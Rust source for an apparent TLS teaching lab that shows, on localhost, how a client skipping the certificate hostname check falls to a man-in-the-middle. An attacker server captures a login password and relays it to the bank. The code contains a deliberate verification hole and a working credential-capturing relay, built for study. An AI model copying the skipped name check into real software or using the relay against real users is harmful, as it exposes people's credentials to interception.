//! Lab 5: a client that checks the certificate chain but not the name.
//!
//! "The most dangerous code in the world" (Georgiev et al., CCS 2012) found
//! it in payment SDKs, cloud clients and middleware; curl's
//! `CURLOPT_SSL_VERIFYHOST` misuse, Python's `ssl` before 2.7.9/3.4.3 (PEP
//! 476, 2014) and many Android apps shipped it. A certificate that chains to
//! a trusted CA proves only that the CA vouched for *someone*: the name
//! check (RFC 6125, RFC 5280 §4.2.1.6) is what says it is the server you
//! asked for.
//!
//! Here the attacker holds a perfectly valid certificate from the same CA —
//! for its own name, `attacker.localhost` — and intercepts the client's
//! connection to `bank.localhost` on 127.0.0.1. The padlock-tls client with
//! the switch `SkipHostnameCheck` (crates/tls/src/certs.rs) accepts it and
//! sends its login to the attacker, who relays it to the bank so that
//! nothing looks wrong; the real client refuses with bad_certificate.

use std::io::{self, Read as _, Write as _};
use std::net::TcpStream;
use std::sync::{Arc, Mutex};

use padlock_tls::lab::{Switch, Switches};
use padlock_tls::{Connection, ServerConfig, Stream};

use crate::net::{self, Server};
use crate::report::{Report, Role};
use crate::{Outcome, Params, Scale, common};

/// The host the client asks for.
const BANK: &str = "bank.localhost";
/// The name on the attacker's certificate.
const ATTACKER: &str = "attacker.localhost";

pub(crate) fn run(params: &Params, report: &mut Report<'_>) -> Result<Outcome, String> {
    let seed = params.seed;
    let bits = match params.scale {
        Scale::Lab => 2048,
        Scale::Test => 1024,
    };
    report.heading("The setting");
    report.explain(format!(
        "A CA the client trusts has issued two certificates: one to the bank, for {BANK}, and one to the \
         attacker, for {ATTACKER} — a real certificate for a domain the attacker really owns, which any CA \
         hands out in minutes. The attacker intercepts the client's connection to {BANK} (a hostile Wi-Fi, a \
         poisoned DNS answer) and answers with its own certificate. {}",
        if params.fixed {
            "This is the real padlock-tls client (--fixed): it checks the chain, the dates and that the \
             certificate names the host it asked for (RFC 6125)."
        } else {
            "The client's switch SkipHostnameCheck is on (crates/tls/src/certs.rs): it checks the chain and the \
             dates, and not the name."
        }
    ));
    let (ca, leaves) = common::ca_and_leaves(bits, &[BANK, ATTACKER], seed)?;
    let [(bank_cert, bank_key), (attacker_cert, attacker_key)] =
        <[_; 2]>::try_from(leaves).map_err(|_| "two leaves")?;
    let bank = Server::start(ServerConfig::new(vec![bank_cert], bank_key), seed, 1, |stream| {
        net::answer_request(stream, "Welcome back, alice. Balance: 1,024.00 EUR\n").map(|_| ())
    })?;
    let stolen: Arc<Mutex<Vec<u8>>> = Arc::default();
    let relay_to = bank.address();
    let (ca_for_relay, stolen_by_app) = (ca.clone(), stolen.clone());
    let attacker =
        Server::start(ServerConfig::new(vec![attacker_cert], attacker_key), seed + 1, 1, move |stream| {
            relay(stream, relay_to, &ca_for_relay, seed, &stolen_by_app)
        })?;
    report.value(format!("the bank, {BANK}"), format!("127.0.0.1:{}", bank.address().port()));
    report.value(
        format!("the attacker, certificate for {ATTACKER}"),
        format!("127.0.0.1:{}", attacker.address().port()),
    );

    let password = format!("hunter{}", seed % 1000);
    let login = format!(
        "POST /login HTTP/1.1\r\nHost: {BANK}\r\nContent-Length: {}\r\n\r\nuser=alice&password={password}",
        21 + password.len()
    );
    let mut config = common::client_config(BANK, &ca);
    if !params.fixed {
        config.switches = Switches::NONE.turn_on(Switch::SkipHostnameCheck);
    }
    report.heading("The client connects to the bank (it thinks)");
    let fetched = common::fetch(attacker.address(), config, seed, login.as_bytes());
    for (_, event) in &fetched.events {
        if let padlock_tls::trace::Event::Check { check, passed } = event {
            report.value(format!("client check {}", if *passed { "ok" } else { "FAILED" }), describe(check));
        }
    }
    drop(attacker);
    let stolen = stolen.lock().map_err(|_| "the attacker panicked")?.clone();
    match &fetched.response {
        Ok(page) => report.value("the client read", common::printable(page)),
        Err(error) => report.value("the client", format!("refused: {error}")),
    }
    let succeeded = !stolen.is_empty();
    if succeeded {
        report.leak("the whole request, in the clear at the attacker: the password");
        report.wire(Role::Client, Role::Attacker, "the login, decrypted by the attacker", &stolen);
        let got = String::from_utf8_lossy(&stolen);
        let found = got.split("password=").nth(1).unwrap_or("").to_string();
        report.recovered("password", found.as_bytes(), password.as_bytes());
    } else {
        report.leak("nothing: the client never sent its request");
    }
    report.figure("certificates the attacker needed", format!("1, valid, for {ATTACKER}"));
    report.verdict(
        succeeded,
        if succeeded {
            "the client sent its login to the attacker, who relayed it to the bank: nobody noticed"
        } else {
            "the client refused the attacker's certificate: wrong name"
        },
    );
    Ok(Outcome { attack_succeeded: succeeded, queries: 1, seconds: 0.0 })
}

/// The attacker's server: keeps the request, relays it to the bank over a
/// real TLS connection (checking the bank's certificate, of course), and
/// sends the answer back.
fn relay(
    stream: &mut Stream<TcpStream>,
    bank: std::net::SocketAddr,
    ca: &padlock_x509::Certificate,
    seed: u64,
    stolen: &Mutex<Vec<u8>>,
) -> io::Result<()> {
    // Head and body: the client wrote them at once, so they came in one record.
    let request = net::read_request(stream)?;
    if let Ok(mut stolen) = stolen.lock() {
        stolen.clone_from(&request);
    }
    let upstream = net::connect(bank).map_err(io::Error::other)?;
    let conn = Connection::client(Arc::new(common::client_config(BANK, ca)), Box::new(net::rng(seed, 50)))
        .map_err(io::Error::other)?;
    let mut to_bank = Stream::new(conn, upstream);
    to_bank.write_all(&request)?;
    let mut answer = Vec::new();
    to_bank.read_to_end(&mut answer)?;
    stream.write_all(&answer)?;
    stream.close().map_err(io::Error::other)
}

/// A client check in words.
fn describe(check: &padlock_tls::trace::Check) -> String {
    use padlock_tls::trace::Check;
    match check {
        Check::CertificatesParse { subject, issuer, .. } => {
            format!("the certificate parses: {subject}, issued by {issuer}")
        }
        Check::CertificatePath(path) => format!("it chains to a trusted CA: {}", path.join(" <- ")),
        Check::CertificateName(host) => format!("it is valid for the name {host}"),
        Check::CertificateRejected(error) => format!("refused: {error}"),
        Check::Signature { message, scheme } => {
            format!("the {} signature ({})", message.name(), scheme.name())
        }
        Check::Finished { sender, .. } => format!("the {}'s Finished", sender.name()),
        other => format!("{other:?}"),
    }
}
